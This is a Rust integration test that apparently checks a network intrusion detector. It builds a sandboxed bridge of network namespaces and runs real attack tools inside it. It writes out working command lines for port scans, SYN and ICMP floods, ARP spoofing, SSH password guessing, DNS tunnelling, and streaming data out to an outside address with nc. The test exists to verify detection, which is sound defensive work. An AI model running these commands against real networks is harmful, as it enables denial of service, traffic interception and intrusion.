//! Attacks by the tools that attackers use, on a network made for it: each is told once, with a beginning and an end, and
//! the same packets read from a file are the same attacks.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::process::Stdio;

use serde_json::Value;
use tokio::process::{Child, Command};

use crate::inside::{inside, sh};
use crate::watchfold::{House, until};

/// Hosts on the bridge that the watcher captures on: name and address. Each attacker is one, so that attacks have sources.
const HOSTS: [(&str, &str); 8] = [
    ("victim", "10.77.0.10"),
    ("half", "10.77.0.61"),
    ("whole", "10.77.0.62"),
    ("flood", "10.77.0.63"),
    ("echo", "10.77.0.64"),
    ("spoof", "10.77.0.65"),
    ("tunnel", "10.77.0.66"),
    ("sender", "10.77.0.67"),
];

/// One who tries to log in.
const GUESSER: (&str, &str) = ("guesser", "10.77.0.68");

/// Somebody on the internet: an address that is nobody's here.
const OUTSIDE: &str = "93.184.216.34";

/// Category and subject of each attack that has to be told, in their order.
const WANTED: [(&str, &str); 8] = [
    ("arp_spoofing", "10.77.0.1"),
    ("brute_force", "10.77.0.68 10.77.0.10 22"),
    ("dns_tunnel", "10.77.0.66 example.org"),
    ("exfiltration", "10.77.0.67 93.184.216.34"),
    ("icmp_flood", "10.77.0.10"),
    ("port_scan", "10.77.0.61"),
    ("port_scan", "10.77.0.62"),
    ("syn_flood", "10.77.0.10"),
];

/// Short windows, so that attacks are over soon; a slow scan would be over only after five minutes.
const CONFIG: &str = r#"
site = "cafe-1"
[[capture]]
interface = "br0"
ring_mib = 256
[rules]
gateways = ["10.77.0.1"]
alert_cooldown = "8s"
port_scan_window = "3s"
syn_flood_window = "3s"
icmp_flood_window = "3s"
exfil_window = "20s"
brute_force_window = "20s"
[rules.states]
port_scan_slow = "off"
"#;

#[test]
fn each_tool_is_told_once_and_its_file_says_the_same() {
    inside(
        "attacks::each_tool_is_told_once_and_its_file_says_the_same",
        attacks,
    );
}

async fn attacks() {
    build();
    let directory = tempfile::tempdir().unwrap();
    let house = House::new(&directory.path().join("data"), CONFIG);
    let running = house.start().await;
    until("packets are captured", &house, async || {
        house.said().contains("capturing").then_some(())
    })
    .await;
    let file = directory.path().join("all.pcap");
    let recorder = record(&file).await;
    let servers = serve(directory.path());
    let mut attackers: Vec<Child> = attackers()
        .into_iter()
        .map(|mut attacker| attacker.spawn().unwrap())
        .collect();
    for attacker in &mut attackers {
        attacker.wait().await.unwrap();
    }
    let told = house
        .wait("every attack is told, and over", "attacks?limit=500", |attacks| {
            let items = attacks["items"].as_array()?;
            let is_over = |attack: &Value| !attack["ended_at"].is_null();
            (items.len() >= WANTED.len() && items.iter().all(is_over)).then(|| told(items))
        })
        .await;
    assert_eq!(names(&told), WANTED.map(owned), "each once\n{}", house.said());
    stop(recorder).await;
    servers.into_iter().for_each(drop);
    assert!(running.stop().await.success(), "{}", house.said());

    // The ring has the very packets that were judged, whatever order its files are named in.
    let ring: Vec<PathBuf> = std::fs::read_dir(house.data.join("ring/cafe-1/capture-br0"))
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .collect();
    assert_eq!(replayed(&house, &ring).await, told, "from the ring");
    // Another program's times differ by microseconds, and what it has seen before the first batch.
    let from_file = replayed(&house, &[file]).await;
    assert_eq!(names(&from_file), names(&told), "from a file of tcpdump's");
}

/// Category, subject and beginning of an attack.
type Told = (String, String, String);

/// What is told of the packets of these files, read as one.
async fn replayed(house: &House, files: &[PathBuf]) -> BTreeSet<Told> {
    let config = house.data.join("watchfold.toml");
    let mut words = vec!["replay"];
    words.extend(files.iter().map(|path| path.to_str().unwrap()));
    words.extend(["--format", "jsonl", "--config", config.to_str().unwrap()]);
    let output = house.run_plain(&words).await;
    let errors = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{errors}");
    let text = String::from_utf8_lossy(&output.stdout);
    let events = text
        .lines()
        .filter_map(|line| serde_json::from_str::<Value>(line).ok());
    events
        .filter_map(|event| one(&event["body"]["attack_began"]))
        .collect()
}

fn told(attacks: &[Value]) -> BTreeSet<Told> {
    attacks.iter().filter_map(one).collect()
}

fn one(attack: &Value) -> Option<Told> {
    let text = |key: &str| Some(attack[key].as_str()?.to_owned());
    Some((text("category")?, text("subject")?, text("began_at")?))
}

fn names(told: &BTreeSet<Told>) -> Vec<(String, String)> {
    let name = |(category, subject, _): &Told| (category.clone(), subject.clone());
    told.iter().map(name).collect()
}

fn owned((category, subject): (&str, &str)) -> (String, String) {
    (category.to_owned(), subject.to_owned())
}

/// A bridge with everybody on it, and the outside behind a route.
fn build() {
    sh("sysctl -qw net.ipv4.ip_forward=1
        ip link add br0 type bridge
        ip link set br0 up
        ip addr add 10.77.0.1/24 dev br0
        ip netns add outside
        ip link add outside type veth peer name wan0 netns outside
        ip link set outside up
        ip addr add 198.51.100.1/30 dev outside
        ip -n outside link set lo up
        ip -n outside link set wan0 up
        ip -n outside addr add 198.51.100.2/30 dev wan0");
    sh(&format!(
        "ip -n outside addr add {OUTSIDE}/32 dev lo
         ip -n outside route add default via 198.51.100.1
         ip route add {OUTSIDE}/32 via 198.51.100.2"
    ));
    for (name, address) in HOSTS.into_iter().chain([GUESSER]) {
        sh(&format!(
            "ip netns add {name}
             ip link add {name} type veth peer name lan0 netns {name}
             ip link set {name} master br0 up
             ip -n {name} link set lo up
             ip -n {name} link set lan0 up
             ip -n {name} addr add {address}/24 dev lan0
             ip -n {name} route add default via 10.77.0.1"
        ));
    }
}

/// A shell line in one of the namespaces.
fn at(host: &str, line: &str) -> Command {
    let mut command = Command::new("ip");
    command.args(["netns", "exec", host, "sh", "-c", line]);
    command
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .kill_on_drop(true);
    command
}

/// What is attacked: a door to log in by, a sink for bytes, and a server that knows no name.
fn serve(directory: &Path) -> Vec<Child> {
    let key = directory.join("key");
    sh(&format!(
        "mkdir -p /run/sshd && ssh-keygen -q -t ed25519 -N '' -f {}",
        key.display()
    ));
    let door = format!(
        "exec /usr/sbin/sshd -D -p 22 -h {} -o UsePAM=no -o PidFile=none -o MaxStartups=100",
        key.display()
    );
    let names = format!(
        "exec python3 -c \"
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(('{OUTSIDE}', 53))
while True:
    question, asker = s.recvfrom(2048)
    s.sendto(question[:2] + b'\\x81\\x83' + question[4:], asker)\""
    );
    let lines = [
        ("victim", door),
        ("outside", "exec nc -l -k -p 9000".to_owned()),
        ("outside", names),
    ];
    lines
        .iter()
        .map(|(host, line)| at(host, line).spawn().unwrap())
        .collect()
}

/// Everybody at once; each ends by itself. What a tool says of its luck does not matter: packets were sent.
fn attackers() -> Vec<Command> {
    let guess = "for n in $(seq 24); do timeout 5 sshpass -p wrong$n ssh -o StrictHostKeyChecking=no \
                 -o UserKnownHostsFile=/dev/null -o NumberOfPasswordPrompts=1 -o PreferredAuthentications=password \
                 nobody@10.77.0.10 true; done";
    let tunnel = format!(
        "for n in $(seq 30); do dig +time=1 +tries=1 @{OUTSIDE} \
         $(head -c 20 /dev/urandom | od -An -tx1 | tr -d ' \\n').t.example.org; done"
    );
    let send = format!(
        "for n in $(seq 30); do head -c 2000000 /dev/zero; sleep 0.2; done | timeout 60 nc -q 1 {OUTSIDE} 9000"
    );
    let lines = [
        ("half", "nmap -sS -n -Pn -p1-60 10.77.0.10"),
        ("whole", "nmap -sT -n -Pn -p1-60 10.77.0.10"),
        ("flood", "timeout 1 hping3 --flood -S -p 80 10.77.0.10"),
        ("echo", "hping3 -1 -i u2000 -c 1500 10.77.0.10"),
        // The victim knows the gateway before somebody else says that they are it.
        ("victim", "ping -c 1 10.77.0.1"),
        (
            "spoof",
            "sleep 1; timeout 6 arpspoof -i lan0 -t 10.77.0.10 10.77.0.1",
        ),
        ("tunnel", &tunnel),
        ("sender", &send),
        ("guesser", guess),
    ];
    lines.iter().map(|(host, line)| at(host, line)).collect()
}

/// Records the bridge, as anybody else would.
async fn record(file: &Path) -> Child {
    let mut command = Command::new("tcpdump");
    command.args(["-i", "br0", "-B", "131072", "-U", "-w"]).arg(file);
    let recorder = command.stderr(Stdio::null()).kill_on_drop(true).spawn().unwrap();
    while !file.exists() {
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    recorder
}

async fn stop(mut child: Child) {
    let pid = child.id().expect("it runs").to_string();
    sh(&format!("kill -INT {pid}"));
    child.wait().await.unwrap();
}
